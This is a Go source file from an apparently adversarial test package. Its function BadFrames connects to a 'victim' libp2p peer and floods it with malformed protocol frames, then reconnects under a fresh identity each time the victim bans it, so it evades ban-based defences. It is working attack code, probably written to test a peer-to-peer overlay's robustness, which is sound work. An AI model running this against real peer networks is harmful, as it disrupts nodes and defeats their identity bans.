package attack

import (
	"context"
	"encoding/binary"
	"time"

	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-libp2p/core/protocol"
)

// BadFrames sends the victim malformed frames on each of the overlay's
// stream protocols (an unknown version, an unexpected type, an oversized
// length, a truncated frame, a short key), one stream after another;
// when the victim bans the identity (it refuses or drops the connection)
// it starts again under a fresh one, until ctx ends.
func BadFrames(ctx context.Context, t Target) error {
	var key [32]byte
	frames := [][]byte{
		Frame(WireVersion+1, FrameCloser, key[:]),
		Frame(WireVersion, FrameToken, key[:]),
		binary.AppendUvarint(nil, 1<<30),
		Frame(WireVersion, FrameCloser, key[:])[:20],
		Frame(WireVersion, FrameCloser, key[:10]),
	}
	protos := []protocol.ID{Protocol(t.Network, "closer"), Protocol(t.Network, "token"),
		Protocol(t.Network, "attach"), Protocol(t.Network, "election")}
	for ctx.Err() == nil {
		h, err := NewHost()
		if err != nil {
			return err
		}
		if err := h.Connect(ctx, t.Victim); err == nil {
			for i := 0; ctx.Err() == nil && h.Network().Connectedness(t.Victim.ID) == network.Connected; i++ {
				_, _ = Send(ctx, h, t.Victim.ID, protos[i%len(protos)], frames[i%len(frames)], time.Second)
			}
		}
		_ = h.Close()
		select {
		case <-ctx.Done():
		case <-time.After(100 * time.Millisecond):
		}
	}
	return nil
}
